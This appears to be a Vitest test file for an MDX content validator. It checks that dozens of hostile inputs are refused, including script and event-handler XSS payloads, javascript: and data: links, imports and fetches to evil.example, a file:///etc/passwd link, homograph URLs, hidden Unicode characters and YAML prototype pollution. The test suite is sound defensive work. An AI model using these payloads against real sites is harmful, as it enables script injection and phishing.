import { expect, it } from 'vitest';
import { edited, firstFile, goodSource } from './fixture.ts';
import { readGuide } from '../../../src/question/read-guide.ts';
import { readQuestion } from '../../../src/question/read-question.ts';

const here = '{/* A comment for the next author. */}';
const code = 'code-not-allowed';
const tag = 'tag-unknown';
const link = 'link-not-allowed';
const markdown = 'markdown-not-allowed';
const syntax = 'mdx-syntax';
const aside = 'aside-form';
const maths = 'math-form';
const hidden = 'character-hidden';

/** What a hostile or careless contributor writes into the text, and the rule that refuses it. */
const inText: [string, string][] = [
  ['import fs from "node:fs"', code],
  ['import "https://evil.example/x.js"', code],
  ['export const getStaticPaths = () => []', code],
  ['export default function Page() { return null }', code],
  ['{process.env.SECRET}', code],
  ['{fetch("https://evil.example")}', code],
  ['Text {1 + 1} text', code],
  ['{/* comment */ alert(1) /* comment */}', code],
  ['{/**/ alert(1)}', code],
  ['{`template`}', code],
  ['{}', code],
  ['{...props}', syntax],
  ['<script>alert(1)</script>', tag],
  ['<script src="https://evil.example/x.js" />', tag],
  ['<style>body { display: none }</style>', syntax],
  ['<style>{`body{display:none}`}</style>', tag],
  ['<img src="https://evil.example/x.png" onerror="alert(1)" />', tag],
  ['<iframe src="https://evil.example" />', tag],
  ['<object data="x" />', tag],
  ['<embed src="x" />', tag],
  ['<svg onload="alert(1)" />', tag],
  ['<math><mi xlink:href="javascript:alert(1)" /></math>', tag],
  ['<base href="https://evil.example/" />', tag],
  ['<meta http-equiv="refresh" content="0;url=https://evil.example" />', tag],
  ['<link rel="stylesheet" href="https://evil.example/x.css" />', tag],
  ['<form action="https://evil.example"><input /></form>', tag],
  ['<a href="javascript:alert(1)">x</a>', tag],
  ['<div onclick="alert(1)">x</div>', tag],
  ['<video autoplay src="https://evil.example/x.mp4" />', tag],
  ['<template><img /></template>', tag],
  ['<x-evil />', tag],
  ['<Quiz.Evil id="x" />', tag],
  ['<evil:tag />', tag],
  ['<Fragment set:html="<script>1</script>" />', tag],
  ['<></>', tag],
  ['<quiz id="x" />', tag],
  ['Text with <b>bold</b> in it', tag],
  ['<Quiz id={"x"} />', code],
  ['<Quiz {...props} />', code],
  ['<Quiz id="x" onclick="alert(1)" />', 'attribute-unknown'],
  ['<Comparison id="x" title="x" style="color:red" />', 'attribute-unknown'],
  ['<Comparison id="x" title="x" set:html="x" />', 'attribute-unknown'],
  ['Text <Quiz id="x" /> text', 'block-place'],
  ['![x](https://evil.example/x.png)', markdown],
  ['![x](./x.png)', markdown],
  ['https://bare.example', link],
  ['![x][ref]\n\n[ref]: https://evil.example/x.png', markdown],
  ['[x](javascript:alert(1))', link],
  ['[x](JaVaScRiPt:alert(1))', link],
  ['[x](<java\tscript:alert(1)>)', link],
  ['[x](data:text/html,<script>alert(1)</script>)', link],
  ['[x](vbscript:x)', link],
  ['[x](file:///etc/passwd)', link],
  ['[x](//evil.example)', link],
  ['[x](/absolute/)', link],
  ['[x](../../../../package.json)', link],
  ['[x](mailto:a@b.example)', link],
  ['[x](&#106;avascript:alert(1))', link],
  ['[x](http:evil.example)', link],
  ['[x][ref]\n\n[ref]: https://evil.example', markdown],
  ['A note.[^1]\n\n[^1]: Hidden', markdown],
  ['~~struck~~', markdown],
  ['***', markdown],
  [':::note{onclick="alert(1)"}\nAn aside\n:::', aside],
  [':::note{style="position:fixed"}\nAn aside\n:::', aside],
  [':::script\nalert(1)\n:::', aside],
  ['::::note\n:::tip\nNested\n:::\n::::', aside],
  [':::note\n<img src="x" onerror="alert(1)" />\n:::', aside],
  [':::note\nText {alert(1)} text\n:::', code],
  [':::note\n[x](javascript:alert(1))\n:::', link],
  [':::note\n\n<Fold id="x" title="x">\n\ny\n\n</Fold>\n\n:::', aside],
  ['<Fold id="x" title="x">\n\n<Quiz id="y">\n\nz\n\n</Quiz>\n\n</Fold>', 'block-place'],
  ['<Fold id="x" title="x">\n\n<script>alert(1)</script>\n\n</Fold>', tag],
  ['<Fold id="x" title="x" open onclick="alert(1)">\n\ny\n\n</Fold>', 'attribute-unknown'],
  ['<Table id="x" title="x" style="x">\n\n| a | b |\n| - | - |\n\n</Table>', 'attribute-unknown'],
  ['<Table id="x" title="x">\n\n| a | b |\n| - | - |\n| {alert(1)} | c |\n\n</Table>', code],
  ['<Chart id="x" title="x" kind="constructor" values="y">\n\nz\n\n</Chart>', 'attribute-value'],
  [
    '<Chart id="x" title="x" kind="curve" values="y" log="constructor">\n\nz\n\n</Chart>',
    'attribute-value',
  ],
  ['<Chart id="x" title="x" kind={alert(1)} values="y" />', code],
  ['<CodeTabs id="x" title="x">\n\n```js eval\n1\n```\n\n</CodeTabs>', markdown],
  ['<CodeTabs id="x" title="x">\n\n<Tabs />\n\n</CodeTabs>', tag],
  ['$\\href{javascript:alert(1)}{x}$', maths],
  ['$\\includegraphics{https://evil.example/x.png}$', maths],
  ['$\\style{position:fixed}{x}$', maths],
  ['$\\def\\a{\\a\\a}\\a$', maths],
  ['$$\n\\rule{1em}{1em}\n$$', maths],
  ['$$js\nx\n$$', maths],
  ['::youtube{id=x}', markdown],
  ['# Second title', 'heading-depth'],
  ['#### Too deep', 'heading-depth'],
  ['- ## In a list', 'heading-place'],
  ['| a | b | c |\n| - | - | - |\n| 1 | 2 | 3 |', 'table-outside-comparison'],
  ['```js title="x" eval\n1\n```', markdown],
  ['a <b', syntax],
  ['<Quiz id="x">', syntax],
  ['{', syntax],
  ['<!-- comment -->', syntax],
  ['\u0000', 'file-encoding'],
  ['\u202Ereversed', 'file-encoding'],
  ['\u2028', 'file-encoding'],
  ['\uFFFD', 'file-encoding'],
  ['line\r', 'file-encoding'],
  ['\u2066isolated', 'file-encoding'],
  ['\u0007bell', 'file-encoding'],
  ['<Quiz id="x" id={1} />', code],
  ['<Quiz\n  id="x"\n  ref={alert}\n/>', code],
  ['export * from "https://evil.example/x.js"', code],
  ['export { default } from "./x"', code],
  ['{import("https://evil.example/x.js")}', code],
  ['{(() => { while (true); })()}', code],
  ['{"\\u003cscript>"}', code],
  ['<script type="module" async src="x" />', tag],
  ['<noscript>x</noscript>', tag],
  ['<marquee>x</marquee>', tag],
  ['<audio src="x" />', tag],
  ['<input autofocus onfocus="alert(1)" />', tag],
  ['<details open ontoggle="alert(1)">x</details>', tag],
  ['<Comparison id="x" title="x" client:load />', 'attribute-unknown'],
  ['<Quiz id="x" is:raw />', 'attribute-unknown'],
  ['<Quiz id="x" define:vars="x" />', 'attribute-unknown'],
  ['<Content />', tag],
  ['<Astro.self />', tag],
  ['[x](https:evil.example)', link],
  ['[x](https://)', link],
  ['[x](blob:https://evil.example/1)', link],
  ['[x](about:blank)', link],
  ['[x](./x.mdx?raw)', link],
  ['[x](./x.js)', link],
  ['[x](#"onclick=alert(1))', link],
  ['<https://evil.example>', syntax],
  ['$$\n\\href{javascript:alert(1)}{x}\n$$', maths],
  ['[x](http://a.example)', link],
  ['http://a.example stands bare', link],
  ['www.a.example stands bare', link],
  ['[x](https://google.com@evil.example/)', link],
  ['[x](https://google.com&#64;evil.example/)', link],
  ['[x](https://gооgle.com/)', link],
  ['[x](https://g&#x43E;ogle.com/)', link],
  ['[x](https://ｇoogle.com/)', link],
  ['[x](https://xn--80ak6aa92e.com/)', link],
  ['[x](https://google.com&#x200B;.evil.example/)', link],
  ['[x](https://127.0.0.1/)', link],
  ['[x](https://a.example/&#x200B;b)', hidden],
  ['num\u200Bbers', hidden],
  ['num&#x200B;bers', hidden],
  ['num&ZeroWidthSpace;bers', hidden],
  ['num&shy;bers', hidden],
  ['num&#8238;bers', hidden],
  ['num&rlm;bers', hidden],
  ['num\u{E0041}bers', hidden],
  ['num\u3164bers', hidden],
  ['num\u2800bers', hidden],
  ['num\uFE0Fbers', hidden],
  ['`num\u2060bers`', hidden],
  ['**num\u2063bers**', hidden],
  ['```js\nif (is\u200BAdmin) {}\n```', hidden],
  ['```js\nif (isAdmin\u3164) {}\n```', hidden],
  ['## Num\u200Bbers', hidden],
  ['<Comparison id="x" title="num&#x200B;bers" />', hidden],
];

const firstLine = goodSource.slice(0, goodSource.indexOf(here)).split('\n').length;

/** A tag that is never closed is noticed at the end of its paragraph, or where the next block begins. */
function lineBelow(text: string): number {
  return firstLine + text.split('\n').length + 2;
}

it.each(inText)('refuses %j in the text: %s', (text, rule) => {
  const { question, problems } = readQuestion(firstFile, edited(here, text));
  expect(question).toBeUndefined();
  expect(problems.map((problem) => problem.rule)).toContain(rule);
  const [problem] = problems.filter((found) => found.rule === rule);
  expect(problem?.line).toBeGreaterThanOrEqual(firstLine);
  expect(problem?.line).toBeLessThanOrEqual(lineBelow(text));
  expect(problem?.column).toBeGreaterThanOrEqual(1);
  expect(problem?.message).not.toBe('');
  expect(problem?.remedy).not.toBe('');
});

const unknown = 'front-matter-key-unknown';
const yaml = 'front-matter-yaml';
const value = 'front-matter-value';

/** The same for the front matter, put in place of the line `order: 1`. */
const inFrontMatter: [string, string][] = [
  ['order: 1\nhead: [{ tag: script, content: alert(1) }]', unknown],
  ['order: 1\nhero: { title: "<script>" }', unknown],
  ['order: 1\nbanner: { content: "<script>" }', unknown],
  ['order: 1\ntemplate: splash', unknown],
  ['order: 1\nslug: elsewhere', unknown],
  ['order: 1\neditUrl: https://evil.example', unknown],
  ['order: 1\n__proto__: { polluted: true }', unknown],
  ['order: 1\nconstructor: { prototype: 1 }', unknown],
  ['order: 1\nordr: 2', unknown],
  ['order: 1\norder: 2', yaml],
  ['order: !!js/function "function () {}"', yaml],
  ['order: &a 1\nsecond: *a', yaml],
  ['order: [1', yaml],
  ['\torder: 1', yaml],
  ['order: one', value],
  ['order: 0', value],
  ['order: 1.5', value],
  ['order: .nan', value],
  ['order:', value],
  ['order: true', value],
  ['order: "1\\u200B"', hidden],
  ['order: "1\\u202E"', hidden],
  ['order: "1\\U000E0041"', hidden],
  ['"ord\\u2060er": 1', hidden],
];

it.each(inFrontMatter)('refuses %j in the front matter: %s', (text, rule) => {
  const { question, problems } = readQuestion(firstFile, edited('order: 1', text));
  expect(question).toBeUndefined();
  expect(problems.map((problem) => problem.rule)).toContain(rule);
  const [problem] = problems.filter((found) => found.rule === rule);
  expect(problem?.line).toBeGreaterThan(1);
  expect(problem?.line).toBeLessThan(22);
  expect(({} as { polluted?: boolean }).polluted).toBeUndefined();
});

it.each([
  'http://a.example/',
  'https://google.com@evil.example/',
  'https://xn--80ak6aa92e.com/',
  'https://ｇoogle.com/',
  'https://g\\u043Eogle.com/',
  'https://10.0.0.1/',
])('refuses a source at %s', (url) => {
  const { problems } = readQuestion(firstFile, goodSource.replace(/url: \S+/, `url: "${url}"`));
  expect(problems.map(({ rule }) => rule)).toEqual([value]);
  expect(problems[0]?.message).toMatch(/^"sources\.0\.url" must be a plain https address: /);
});

const beforeAll: [string, (source: string) => string, string][] = [
  ['a byte order mark', (source) => `\uFEFF${source}`, 'file-encoding'],
  ['Windows line ends', (source) => source.replaceAll('\n', '\r\n'), 'file-encoding'],
  ['no front matter', (source) => source.replace(/^---[\s\S]*?---\n/, ''), 'front-matter-missing'],
  ['a line before the front matter', (source) => `\n${source}`, 'front-matter-missing'],
  ['an empty file', () => '', 'front-matter-missing'],
  ['TOML', (source) => source.replace('---', '+++'), 'front-matter-missing'],
];

it.each(beforeAll)('refuses %s', (_, change, rule) => {
  const { question, problems } = readQuestion(firstFile, change(edited(here, '')));
  expect(question).toBeUndefined();
  expect(problems.map((problem) => problem.rule)).toContain(rule);
});

it.each([
  'plain text',
  '`{code}`',
  '`<b>`',
  '**bold** and *slanted*',
  '[a](https://a.example/b?c=d&e=f#g)',
  '- a list\n- of two',
  '> a quotation',
  '```js\nimport x from "y"\n```',
  '### A part',
  '1. first\n2. second',
  'a\\\nbreak',
  '{/* a comment */}',
  '5 \\< 6',
  'ISO 5338:2023 at 3:30, see :name[label]',
  '&lt;b&gt;',
])('takes %j', (text) => {
  const { problems } = readQuestion(firstFile, edited(here, text));
  expect(problems).toEqual([]);
});

// A guide is read by the same closed list as a question, and is shorter.
const guideFile = 'src/content/docs/guides/guide.mdx';
const guideHead = '---\ntitle: Guide\ndescription: About it.\n---\n\n';

/** Every harmless phrase in every harmless place. */
const phrases = [
  ...[
    'plain',
    '`{code}`',
    '**bold**',
    '*slanted*',
    '[a](https://a.example/b?c=d#e)',
    '[b](#gates)',
  ],
  ...[
    '`<b>`',
    '5 \\< 6',
    'ISO 5338:2023',
    'at 3:30',
    '&amp;',
    '“quoted”',
    'a/b',
    '10 %',
    'import.meta.env',
  ],
  ...['[x](#a b)', '1,000', 'naïve', '© 2026', 'e.g. this', '模型', 'a\nb', 'x_y_z'],
];
const places = [
  ...[
    '%',
    '- %',
    '- one\n- %',
    '1. %',
    '> %',
    '### %',
    '- a\n\n  %',
    '> - %',
    'before % after',
    '**%**',
  ],
];

it(`takes ${phrases.length * places.length} harmless texts`, () => {
  const refused = places.flatMap((place) =>
    phrases
      .map((phrase) => place.replace('%', () => phrase))
      .filter((text) => {
        const { problems } = readGuide(guideFile, `${guideHead}${text}\n`);
        return problems.length > 0;
      }),
  );
  expect(refused).toEqual([]);
});
